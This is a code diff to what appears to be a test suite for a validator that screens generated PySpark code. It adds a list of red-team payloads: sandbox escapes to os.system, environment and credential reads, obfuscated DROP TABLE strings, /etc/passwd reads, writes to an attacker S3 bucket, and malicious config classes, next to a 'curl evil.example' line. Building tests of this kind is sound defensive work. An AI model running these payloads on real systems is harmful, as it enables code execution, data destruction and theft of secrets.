@@ -148,6 +148,44 @@ DESTRUCTION = {
 }
 
 
+RED_TEAM = {  # a second hostile tester, against the allowlist itself
+    'a1-keyword-defined-attrs-gi-frame-rce': "dict(gi_frame=0, f_globals=0, system=0)\n(i for i in [0]).gi_frame.f_globals['os'].system('id')",
+    'a2-f-builtins-exec': 'dict(gi_frame=0, f_builtins=0)\n(i for i in [0]).gi_frame.f_builtins[\'exec\'](\'import os; os.system("id")\')',
+    'a3-alias-defines-attr': "daily.alias('gi_frame')\nprint((i for i in [0]).gi_frame)",
+    'a4-sys-as-value': "m = sys\ndict(modules=0, system=0)\nm.modules['os'].system('id')",
+    'b1-format-field-environ-sys': "print('{0.modules[os].environ}'.format(sys))",
+    'b2-format-field-environ-gen': "print('{0.gi_frame.f_globals[os].environ}'.format((i for i in [0])))",
+    'b3-format-map': "print('{g.gi_frame.f_globals[os].environ}'.format_map({'g': (i for i in [0])}))",
+    'c1-sql-sqlquery': "q = ''.join(reversed('regdel.ecnanif ELBAT PORD'))\nspark.sql(sqlQuery=q)",
+    'c2-sql': "spark.sql(**{'sqlQuery': ''.join(reversed('regdel.ecnanif ELBAT PORD'))})",
+    'd1-rebind-output-table-same-sql': 'output_table = \'finance.ledger\'\nspark.sql(f"INSERT OVERWRITE TABLE {output_table} SELECT order_date, revenue FROM daily")',
+    'd2-rebind-output-table-saveastable': "output_table = 'finance.ledger'\ndaily.write.mode('overwrite').saveAsTable(output_table)",
+    'd3-rebind-to-source-table': "output_table = source_table\ndaily.limit(0).write.mode('overwrite').saveAsTable(output_table)",
+    'e1-catalog-droptable': "spark.catalog.dropTable('finance.ledger')",
+    'e2-catalog-truncatetable': "spark.catalog.truncateTable('finance.ledger')",
+    'e3-catalog-dropdatabase': "spark.catalog.dropDatabase('finance')",
+    'e4-catalog-setcurrentdatabase': "spark.catalog.setCurrentDatabase('finance')",
+    'e5-sql-use': "spark.sql('USE finance')",
+    'f1-read-text-paths': "spark.read.text(paths=''.join(reversed('dwssap/cte/'))).show(truncate=False)",
+    'f2-options-path': "spark.read.format('text').options(path=''.join(reversed('dwssap/cte/'))).load().show()",
+    'f3-option-path-known-prefix': "spark.read.format('text').option('path', '/app/mount/../../etc/passwd').load().show()",
+    'f4-spark-table-sql-on-file': "spark.table('text.`/etc/passwd`').show(truncate=False)",
+    'g1-saveastable-own-path': "daily.write.saveAsTable(output_table, mode='overwrite', path='/app/mount/../../etc')",
+    'g2-option-path-own-table': "daily.write.mode('overwrite').option('path', ''.join(reversed('x/rekcatta//:a3s'))).saveAsTable(output_table)",
+    'g3-writeto-own-option-path': "daily.writeTo(output_table).using('text').option('path', '/app/mount/../../etc').createOrReplace()",
+    'h1-insert-overwrite-directory': 'spark.sql("INSERT OVERWRITE DIRECTORY \'s3a://attacker/x\' SELECT * FROM daily")',
+    'h2-insert-overwrite-local-directory': 'spark.sql("INSERT OVERWRITE LOCAL DIRECTORY \'/tmp/x\' SELECT * FROM daily")',
+    'h3-alter-own-set-location': 'spark.sql(f"ALTER TABLE {output_table} SET LOCATION \'s3a://attacker/x\'")',
+    'h4-alter-own-set-serde': 'spark.sql(f"ALTER TABLE {output_table} SET SERDE \'com.evil.Serde\'")',
+    'i1-env-substitution': 'spark.sql("SELECT \'${env:AWS_SECRET_ACCESS_KEY}\' AS k").show(truncate=False)',
+    'i2-conf-secret': 'spark.sql("SELECT \'${spark.hadoop.fs.s3a.secret.key}\' AS k").show(truncate=False)',
+    'i3-var-comment-break-out': "spark.conf.set('app.q', ''.join(reversed('-- regdel.ecnanif ELBAT PORD /*')))\nspark.sql('/* ${app.q} */ SELECT 1')",
+    'j1-non-spark-conf-key': "spark.conf.set('fs.s3a.impl', 'com.evil.FS')",
+    'j2-builder-non-spark-key': "SparkSession.builder.config('hive.exec.pre.hooks', 'com.evil.Hook')",
+    'k1-f-call-function-reflect': "daily.select(F.call_function('reflect', F.lit('java.lang.Thread'), F.lit('sleep'), F.lit(1))).show()",
+    'k2-f-call-udf-java-method': "daily.select(F.call_udf('java_method', F.lit('java.lang.Thread'), F.lit('sleep'), F.lit(1))).show()",
+}
+
 UNSAFE_CONFIG = {
     "default-java-options": {"spark.driver.defaultJavaOptions": "-XX:OnOutOfMemoryError=curl evil.example"},
     "query-listeners": {"spark.sql.queryExecutionListeners": "com.evil.Listener"},
@@ -161,7 +199,7 @@ UNSAFE_CONFIG = {
     "ansi-off-by-model": {"spark.sql.ansi.enabled": "false"},
 }
 FAMILIES = {"os access": OS_ACCESS, "spark commands and host files": SPARK_COMMANDS,
-            "table destruction": DESTRUCTION}
+            "table destruction": DESTRUCTION, "red team against the allowlist": RED_TEAM}
 
 ORDINARY_EDITS = {
     "new-column": 'daily = daily.withColumn("revenue_k", F.round(F.col("revenue") / 1000, 2))',
@@ -181,6 +219,9 @@ ORDINARY_EDITS = {
     "drop-dup": "daily = daily.dropDuplicates(['order_date']).na.fill({'revenue': 0})",
     "sql-set-shuffle": 'spark.conf.set("spark.sql.shuffle.partitions", "16")',
     "messages": 'print("Update: dropping rows with null revenue")',
+    "reader-format": 'orders = spark.read.format("parquet").option("mergeSchema", "true").table(source_table)',
+    "writer-format": 'daily.write.format("parquet").mode("overwrite").saveAsTable(output_table)',
+    "str-format": 'print("wrote {} rows to {}".format(daily.count(), output_table))',
     "main-guard": "def main():\n    pass\n\nif __name__ == '__main__':\n    main()",
 }
 
